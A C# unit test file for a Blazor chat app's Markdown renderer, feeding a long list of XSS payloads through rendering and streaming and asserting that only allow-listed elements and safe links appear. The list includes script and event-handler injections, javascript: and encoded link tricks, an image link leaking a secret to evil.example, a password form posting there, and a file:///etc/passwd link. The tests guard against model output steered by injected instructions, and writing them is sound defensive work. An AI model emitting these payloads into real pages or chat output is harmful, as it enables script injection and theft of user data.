using AngleSharp.Dom;
using Bunit;
using BlazorChat.Markdown;
using OpenRouter.Samples.Blazor.Tests.Support;
using OpenRouter.Testing;

namespace OpenRouter.Samples.Blazor.Tests.Formatting;

/// <summary>What a model writes, perhaps because a document told it to, becomes no element and no attribute but the few that Markdown has.</summary>
public sealed class HostileTextTests
{
    private static readonly string[] Allowed =
        ["a", "blockquote", "br", "code", "del", "div", "em", "h3", "h4", "h5", "h6", "hr", "li", "ol", "p", "pre", "strong", "table", "tbody", "td", "th", "tr", "ul"];

    private static readonly string[] AllowedAttributes = ["class", "href", "rel", "scope", "start", "tabindex", "target"];

    public static TheoryData<string> Payloads => new(
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<body onload=alert(1)>",
        "<a href=\"javascript:alert(1)\">click</a>",
        "<div style=\"background:url(javascript:alert(1))\">x</div>",
        "<style>body{display:none}</style>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<base href=https://evil.example/>",
        "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
        "<form action=https://evil.example><input name=password></form>",
        "<object data=https://evil.example/x.swf></object>",
        "<details open ontoggle=alert(1)>",
        "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
        "<!--><script>alert(1)</script-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "[click](javascript:alert(1))",
        "[click](JaVaScRiPt:alert(1))",
        "[click](java&#10;script:alert(1))",
        "[click](&#x6A;avascript:alert(1))",
        "[click](\u0001javascript:alert(1))",
        "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[click](vbscript:msgbox(1))",
        "[click](file:///etc/passwd)",
        "[click](//evil.example)",
        "[click](/sign-out)",
        "[click](https://trusted.example@evil.example)",
        "[click](https://ok.example \"title\" onclick=alert(1))",
        "[click](https://ok.example/\"onmouseover=\"alert(1))",
        "[click][1]\n\n[1]: javascript:alert(1)",
        "<javascript:alert(1)>",
        "![x](https://evil.example/log?secret)",
        "![x](javascript:alert(1))",
        "[![x](https://evil.example/log)](javascript:alert(1))",
        "```\"><script>alert(1)</script>\ncode\n```",
        "```html\n</code></pre><script>alert(1)</script>\n```",
        "`</code><script>alert(1)</script>`",
        "# <script>alert(1)</script>",
        "- <img src=x onerror=alert(1)>\n- [x](javascript:1)",
        "| <b onclick=alert(1)>a</b> |\n|---|\n| [x](javascript:1) |",
        "**<script>**alert(1)**</script>**",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "@using System.IO @{ File.Delete(\"x\"); }",
        "{{constructor.constructor('alert(1)')()}}");

    [Theory]
    [MemberData(nameof(Payloads))]
    public async Task Markdown_Hostile_CreatesNoForeignElementOrAttribute(string payload)
    {
        await using var context = new BunitContext();

        // As it is, after other text, and cut off anywhere, as it is while it streams.
        foreach (var text in (IEnumerable<string>)[payload, $"Look: {payload} (end)", $"Look:\n\n{payload}\n\nend", .. Enumerable.Range(1, payload.Length).Select(length => payload[..length])])
        {
            Check(context.Render<MarkdownView>(parameters => parameters.Add(static view => view.Text, text)).FindAll("*"));
        }
    }

    [Theory]
    [MemberData(nameof(Payloads))]
    public async Task Chat_Hostile_CreatesNoForeignElement(string payload)
    {
        await using var context = new ChatContext();
        context.Emulator.Next(Reply.Text(payload).WithReasoning(payload).WithProvider(payload));
        var page = context.Open();

        await page.AskToTheEndAsync(context, payload);

        Assert.Equal(payload, page.Find(".question").TextContent);
        Assert.Equal(payload, page.Find(".reasoning .plain").TextContent);
        Assert.Empty(page.FindAll("script, img, svg, iframe, style, link, base, meta, object, math, body, .log input"));
        Check(page.FindAll(".markdown *"));
    }

    private static void Check(IEnumerable<IElement> elements) => Assert.All(elements, static element =>
    {
        Assert.Contains(element.LocalName, Allowed);
        Assert.All(element.Attributes, static attribute => Assert.Contains(attribute.Name, AllowedAttributes));
        if (element.GetAttribute("href") is { } address)
        {
            Assert.Matches("^https?://[a-z.]+/", address);
            Assert.DoesNotContain("evil.example", address, StringComparison.Ordinal);
            Assert.Equal("nofollow noopener noreferrer ugc", element.GetAttribute("rel"));
        }
    });
}
